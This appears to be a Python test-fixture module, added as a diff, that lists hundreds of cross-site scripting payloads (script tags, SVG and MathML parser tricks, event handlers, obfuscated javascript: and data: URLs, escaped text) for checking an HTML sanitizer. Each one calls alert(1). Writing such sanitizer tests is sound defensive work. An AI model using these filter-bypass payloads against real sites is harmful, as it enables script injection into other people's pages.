@@ -1,0 +1,195 @@
+"""Ways to smuggle a script into a page, each of which calls `alert(1)` where it gets through."""
+
+from __future__ import annotations
+
+import base64
+import html
+
+SCRIPT = "alert(1)"
+_ENCODED = base64.b64encode(b"<script>parent.alert(1)</script>").decode()
+_REFERENCES = "".join(f"&#{ord(character)};" for character in "javascript:alert(1)")
+_LONG_REFERENCES = "".join(f"&#{ord(character):07d}" for character in "javascript:alert(1)")
+_HEXADECIMAL = "".join(f"&#x{ord(character):X};" for character in "javascript:alert(1)")
+
+ELEMENTS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    "<script src='data:text/javascript,alert(1)'></script>",
+    "<script type=module>alert(1)</script>",
+    "<script>alert(1)",
+    "<script/x>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\n>alert(1)</script\n>",
+    "<<script>alert(1);//<</script>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script href='data:text/javascript,alert(1)'></script></svg>",
+    "<svg/onload=alert(1)>",
+    "<svg><g onload=alert(1)></g></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<svg><set onbegin=alert(1) attributeName=x></svg>",
+    "<svg><a href='javascript:alert(1)'><text y=20>click me now</text></a></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click me now</text></a></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/></svg>",
+    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "<svg><image href=x onerror=alert(1) /></svg>",
+    "<svg><title><img src=x onerror=alert(1)></title></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><desc><script>alert(1)</script></desc></svg>",
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
+    "<math><a xlink:href='javascript:alert(1)' href='javascript:alert(1)'>click this formula</a></math>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
+    "<math><annotation encoding='application/x-tex'><script>alert(1)</script></annotation></math>",
+    "<math><annotation encoding='application/x-tex'>x</annotation><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<math alttext='<img src=x onerror=alert(1)>'><mi>x</mi></math>",
+    "<math href='javascript:alert(1)'><mi>click</mi></math>",
+    "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>click here</maction></math>",
+    "<iframe src='javascript:parent.alert(1)'></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    f"<iframe src='data:text/html;base64,{_ENCODED}'></iframe>",
+    "<iframe onload=alert(1)></iframe>",
+    "<frameset onload=alert(1)><frame src='javascript:parent.alert(1)'></frameset>",
+    "<object data='javascript:alert(1)'></object>",
+    f"<object data='data:text/html;base64,{_ENCODED}'></object>",
+    "<object type=text/html data='data:text/html,<script>parent.alert(1)</script>' onload=alert(1)></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<embed src='data:text/html,<script>parent.alert(1)</script>' onload=alert(1)>",
+    "<applet code=x onerror=alert(1)></applet>",
+    "<link rel=stylesheet href='javascript:alert(1)' onerror=alert(1)>",
+    "<link rel=import href='data:text/html,<script>alert(1)</script>' onload=alert(1) onerror=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=refresh content='0;url=data:text/html,<script>parent.alert(1)</script>'>",
+    "<base href='javascript:alert(1)//'><a href='#'>a link to click</a>",
+    "<style>@import 'javascript:alert(1)';</style><style onload=alert(1)></style>",
+    "<style>body{background:url('javascript:alert(1)')}</style>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><img src=x onerror=alert(1)></textarea></textarea><img src=x onerror=alert(1)>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+    "<plaintext><img src=x onerror=alert(1)>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
+    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
+    "<select><style></select><img src=x onerror=alert(1)></style></select>",
+    "<form action='javascript:alert(1)'><button>press this</button></form>",
+    "<form id=f></form><button form=f formaction='javascript:alert(1)'>press this</button>",
+    "<input type=image src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<isindex action='javascript:alert(1)' type=image>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<bgsound src='javascript:alert(1)'>",
+    "<layer src='javascript:alert(1)'></layer>",
+    "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
+    "<portal src='javascript:alert(1)'></portal>",
+    "<my-element onclick=alert(1)>press this</my-element>",
+]
+
+HANDLERS = [
+    "<img src=x onerror=alert(1)>",
+    "<img src=x oNeRrOr=alert(1)>",
+    "<img src=x onerror  =  'alert(1)'>",
+    "<img src='x'onerror='alert(1)'>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x:x onerror=alert(1)//",
+    '<img """><script>alert(1)</script>">',
+    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+    "<img alt='\"><script>alert(1)</script>' src=y.png>",
+    "<img alt='`><img src=x onerror=alert(1)>' src=y.png>",
+    "<img src='y.png\" onerror=\"alert(1)'>",
+    "<img src=y.png title='&lt;img src=x onerror=alert(1)&gt;'>",
+    "<img srcset='x' src=x onerror=alert(1)>",
+    "<img src=x\x00 onerror=alert(1)>",
+    "<img\x0csrc=x\x0conerror=alert(1)>",
+    "<image src=x onerror=alert(1)>",
+    "<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>",
+    "<video src=x onerror=alert(1)></video>",
+    "<video><source src=x onerror=alert(1)></video>",
+    "<video poster='javascript:alert(1)'></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<body onload=alert(1)>",
+    "<body onpageshow=alert(1)>",
+    "<body background='javascript:alert(1)'>",
+    "<p onclick=alert(1)>press this paragraph</p>",
+    "<p onmouseover=alert(1)>point at this</p>",
+    "<p onfocus=alert(1) tabindex=0>focus on this</p>",
+    "<p onpointerenter=alert(1)>point at that</p>",
+    "<a onclick=alert(1) href='#'>press this link</a>",
+    "<b/onclick=alert(1)>press bold</b>",
+    "<details open ontoggle=alert(1)><summary>fold this</summary>text</details>",
+    "<marquee onstart=alert(1)>running text</marquee>",
+    "<div style='width:expression(alert(1))'>styled text</div>",
+    "<div style='background:url(javascript:alert(1))' onclick=alert(1)>styled text</div>",
+    "<div style='animation-name:x' onanimationstart=alert(1)>moving</div><style>@keyframes x{}</style>",
+    "<table><tr><td background='javascript:alert(1)' onclick=alert(1)>cell<td>cell</table>",
+    "<ul><li onclick=alert(1)>press this item</ul>",
+    "<h2 onclick=alert(1)>press this heading</h2>",
+    "<pre onclick=alert(1) class='language-x\" onclick=\"alert(1)'>press this code</pre>",
+    "<p lang='x\" onclick=\"alert(1)'>press this paragraph</p>",
+    "<p dir='x\" onclick=\"alert(1)'>press this paragraph</p>",
+    "<td colspan='2\" onclick=\"alert(1)'>loose cell</td>",
+    "<ol start='1\" onclick=\"alert(1)'><li value='2\" onclick=\"alert(1)'>press this item</ol>",
+]
+
+ADDRESSES = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "\x01javascript:alert(1)",
+    "java\nscript:alert(1)",
+    "java\tscript:alert(1)",
+    "java&#10;script:alert(1)",
+    "java&Tab;script:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript&#58;alert(1)",
+    "javascript://example.org/%0aalert(1)",
+    "javascript:/*--></title></style></textarea></script>*/alert(1)",
+    _REFERENCES,
+    _LONG_REFERENCES,
+    _HEXADECIMAL,
+    "\u2028javascript:alert(1)",
+    "\ufeffjavascript:alert(1)",
+    "vbscript:alert(1)",
+    "livescript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    f"data:text/html;base64,{_ENCODED}",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+    "view-source:javascript:alert(1)",
+    "feed:javascript:alert(1)",
+    "jar:javascript:alert(1)!/",
+    "blob:javascript:alert(1)",
+    'x" onclick="alert(1)',
+    "x'onclick='alert(1)",
+    "x)<img src=x onerror=alert(1)>(",
+    'https://example.org/"onclick=alert(1) x="',
+]
+
+TEXTS = [
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "[link](javascript:alert(1))",
+    "[link]: javascript:alert(1)",
+    '![image](x" onerror="alert(1))',
+    "&lt;javascript:alert(1)&gt;",
+    "`&lt;img src=x onerror=alert(1)&gt;`",
+    "&lt;/p&gt;&lt;/article&gt;&lt;/main&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
+    "--&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
+]
+
+
+def _links(address: str) -> str:
+    quoted = address.replace('"', "&quot;")
+    return (
+        f'<p>Please <a href="{quoted}">follow this link</a> or <a href="{quoted}"><img src="{quoted}" alt="x"></a></p>'
+    )
+
+
+INJECTIONS = [
+    *ELEMENTS,
+    *HANDLERS,
+    *map(_links, ADDRESSES),
+    *(
+        f"<p>{text}</p><pre>{text}</pre><ul><li title='{html.escape(html.unescape(text))}'>{text}</ul>"
+        for text in TEXTS
+    ),
+]
